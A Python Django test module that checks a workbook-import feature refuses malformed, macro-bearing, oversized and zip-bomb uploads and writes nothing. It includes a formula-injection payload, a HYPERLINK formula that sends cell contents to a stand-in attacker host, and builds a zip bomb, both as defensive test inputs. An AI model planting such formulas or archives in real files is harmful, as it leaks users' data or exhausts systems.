"""Bad workbooks: each gets an error naming its sheet, row and column, and writes nothing."""

import datetime
import io
import zipfile

import time_machine
from django.db import connection
from openpyxl import load_workbook

from opsreport import revision
from opsreport.sample import july
from opsreport.workbook import service
from opsreport.workbook.apply import ImportRefused, apply
from opsreport.workbook.export import workbook_bytes
from opsreport.workbook.reading import MAX_UPLOAD_BYTES
from tests.base import SampleTestCase
from tests.test_workbook import JULY_2018, NOTHING_IN_JULY, NOW, edited, july_rows


def table_counts():
    """Rows in every table of the data, to show that nothing at all was written."""
    with connection.cursor() as cursor:
        counts = {}
        for table in revision.tracked_tables():
            cursor.execute(f"SELECT COUNT(*) FROM {connection.ops.quote_name(table)}")
            counts[table] = cursor.fetchone()[0]
    return counts


def zipped(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


@time_machine.travel(NOW, tick=False)
class BadWorkbookTests(SampleTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.good = july.july_workbook()

    def setUp(self):
        self.revision = revision.current()
        self.counts = table_counts()

    def refused(self, data, where, contains="", filename="july.xlsx", month=JULY_2018):
        """The preview's errors include one at `where` (sheet, row, column); nothing is written."""
        plan = service.preview(month, data, filename)
        found = [(e.sheet, e.row, e.column) for e in plan.errors]
        self.assertIn(where, found, [str(e) for e in plan.errors])
        message = next(e.message for e in plan.errors if (e.sheet, e.row, e.column) == where)
        self.assertIn(contains, message)
        with self.assertRaises(ImportRefused):
            apply(plan)
        self.assertEqual(revision.current(), self.revision)
        self.assertEqual(table_counts(), self.counts)
        self.assertEqual(july_rows(), NOTHING_IN_JULY)
        return plan

    def edit(self, change):
        return edited(self.good, change)

    def set_cell(self, sheet, cell, value):
        def change(workbook):
            workbook[sheet][cell] = value

        return self.edit(change)

    # Sheets -----------------------------------------------------------------------------

    def test_missing_sheet(self):
        def change(workbook):
            del workbook["Website"]

        self.refused(self.edit(change), ("Website", None, None), "missing")

    def test_unknown_sheet(self):
        def change(workbook):
            workbook.create_sheet("Sheet1")["A1"] = "hello"

        self.refused(self.edit(change), ("Sheet1", None, None), "Unknown sheet")

    def test_missing_column(self):
        self.refused(self.set_cell("Effort", "E1", "Hours"), ("Effort", 1, None), "'Days' is missing")

    def test_a_column_twice(self):
        self.refused(self.set_cell("Helpdesk", "D1", "Count"), ("Helpdesk", 1, "D"), "already column C")

    def test_a_stray_cell_far_below(self):
        self.refused(self.set_cell("Effort", "B5000", "Core Panel and Board"), ("Effort", 3001, None), "at most")

    # Cells ------------------------------------------------------------------------------

    def test_text_in_a_number_cell(self):
        self.refused(self.set_cell("Helpdesk", "C4", "forty"), ("Helpdesk", 4, "C (Count)"), "'forty' is not a number")

    def test_an_enormous_number_is_refused_at_once(self):
        # Nine characters that, turned into an int for the message, took seconds.
        self.refused(self.set_cell("Helpdesk", "C5", "1e1000000"), ("Helpdesk", 5, "C (Count)"), "not a plausible")

    def test_negative_number(self):
        self.refused(self.set_cell("Effort", "E3", -2), ("Effort", 3, "E (Days)"), "negative")

    def test_absurd_number(self):
        self.refused(self.set_cell("Helpdesk", "C5", 12_000_000), ("Helpdesk", 5, "C (Count)"), "check the figure")

    def test_fraction_of_an_email(self):
        self.refused(self.set_cell("Helpdesk", "C6", 12.5), ("Helpdesk", 6, "C (Count)"), "not a whole number")

    def test_unknown_category(self):
        self.refused(
            self.set_cell("Helpdesk", "B7", "Complaints"), ("Helpdesk", 7, "B (Figure)"), "Unknown enquiry category"
        )

    def test_unknown_party(self):
        self.refused(
            self.set_cell("Completions", "B3", "Nobody Energy Ltd"), ("Completions", 3, "B (Party)"), "Unknown party"
        )

    def test_unknown_party_in_membership(self):
        self.refused(
            self.set_cell("Membership", "A3", "Nobody Energy Ltd"), ("Membership", 3, "A (Party)"), "Unknown party"
        )

    def test_an_applicant_acceding_in_another_category(self):
        self.refused(
            self.set_cell("Membership", "E2", "Small Supplier"),
            ("Membership", 2, "E (Category (new party))"),
            "applied as",
        )

    def test_a_new_party_named_as_a_voting_group_of_another_category(self):
        from parties.models import VotingGroup

        VotingGroup.objects.create(name=july.NEW_PARTY, category="large_supplier")
        self.counts = table_counts()
        self.revision = revision.current()
        self.refused(self.good, ("Membership", 2, "E (Category (new party))"), "A voting group named")

    def test_duplicate_rows(self):
        def change(workbook):
            workbook["Helpdesk"].append(["2018-07", "Applications", 5])

        self.refused(self.edit(change), ("Helpdesk", 15, "B (Figure)"), "already on row 4")

    def test_another_month_in_a_row(self):
        self.refused(self.set_cell("Website", "A2", "2018-08"), ("Website", 2, "A (Month)"), "August 2018")

    def test_another_month_in_the_readme(self):
        self.refused(self.set_cell("README", "B2", "2018-06"), ("README", 2, "B"), "June 2018")

    def test_a_date_outside_the_month(self):
        self.refused(
            self.set_cell("Membership", "C3", datetime.date(2018, 8, 2)),
            ("Membership", 3, "C (Date)"),
            "not in July 2018",
        )

    def test_formula_cell(self):
        self.refused(self.set_cell("Helpdesk", "C3", "=SUM(C4:C14)"), ("Helpdesk", 3, "C (Count)"), "formula")

    def test_formula_in_a_csv(self):
        csv = b"Month,Figure,Count\n2018-07,Applications,=1+1\n"
        self.refused(csv, ("Helpdesk", 2, "C (Count)"), "formula", filename="helpdesk.csv")

    # Files ------------------------------------------------------------------------------

    def test_macro_enabled_name(self):
        self.refused(self.good, (None, None, None), "macros", filename="july.xlsm")

    def test_macros_inside_an_xlsx(self):
        with zipfile.ZipFile(io.BytesIO(self.good)) as archive:
            members = {info.filename: archive.read(info) for info in archive.infolist()}
        members["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
        self.refused(zipped(members), (None, None, None), "macros")

    def test_oversized_file(self):
        self.refused(self.good + b"\0" * MAX_UPLOAD_BYTES, (None, None, None), "at most")

    def test_zip_bomb(self):
        bomb = zipped({"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": b"\0" * (40 * 1024 * 1024)})
        self.assertLess(len(bomb), MAX_UPLOAD_BYTES)
        self.refused(bomb, (None, None, None), "unpacks to")

    def test_too_many_zip_members(self):
        self.refused(zipped({f"x/{i}.xml": b"" for i in range(500)}), (None, None, None), "holds 500 files")

    def test_not_a_zip_at_all(self):
        self.refused(b"Month,Figure,Count\n", (None, None, None), "not an XLSX workbook")

    def test_a_damaged_workbook(self):
        self.refused(self.good[: len(self.good) // 2], (None, None, None), "")

    def test_a_damaged_sheet_inside_a_sound_zip(self):
        # The zip opens; the sheet's XML, read only as the sheet is read, is cut short.
        with zipfile.ZipFile(io.BytesIO(self.good)) as archive:
            members = {name: archive.read(name) for name in archive.namelist()}
        sheet = next(name for name in members if name.startswith("xl/worksheets/sheet"))
        members[sheet] = members[sheet][: len(members[sheet]) // 2]
        self.refused(zipped(members), (None, None, None), "cannot be read")

    def test_month_outside_the_window(self):
        plan = service.preview(datetime.date(2030, 1, 1), self.good, "july.xlsx")
        self.assertIn("outside the months", plan.errors[0].message)
        with self.assertRaises(ImportRefused):
            apply(plan)
        self.assertEqual(table_counts(), self.counts)

    def test_oversized_upload_on_the_page(self):
        self.client.force_login(self.erin)
        upload = io.BytesIO(b"\0" * (MAX_UPLOAD_BYTES + 1))
        upload.name = "july.xlsx"
        response = self.client.post("/months/2018-07/import/", {"workbook": upload})
        self.assertContains(response, "a workbook may be at most")
        self.assertNotContains(response, 'name="confirm"')
        self.assertEqual(table_counts(), self.counts)


@time_machine.travel(NOW, tick=False)
class FormulaLookingNamesTests(SampleTestCase):
    """A name beginning with "=" (typed in the admin, or imported) is text in every cell the
    workbook writes, the reference lists included, and comes back from an import as typed."""

    def test_a_party_and_a_category_named_like_formulas_round_trip_as_text(self):
        from helpdesk.models import EnquiryCategory
        from parties.models import Party

        hostile = '=HYPERLINK("http://attacker.example/?"&A1,"x")'
        Party.objects.filter(name="IMServ Europe Limited").update(name=hostile)
        EnquiryCategory.objects.filter(name="Applications").update(name="=1+1")
        data = workbook_bytes(datetime.date(2018, 6, 1))
        workbook = load_workbook(io.BytesIO(data))
        cells = [
            c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if c.value in (hostile, "=1+1")
        ]
        self.assertGreaterEqual(len(cells), 4)  # the Lists sheet and the data sheets
        self.assertTrue(all(c.data_type == "s" for c in cells), [(c.parent.title, c.coordinate) for c in cells])
        plan = service.preview(datetime.date(2018, 6, 1), data, "june.xlsx")
        self.assertEqual(plan.errors, [])  # no "This cell holds a formula": they are text
        self.assertEqual({r.status for r in plan.rows}, {"unchanged"})
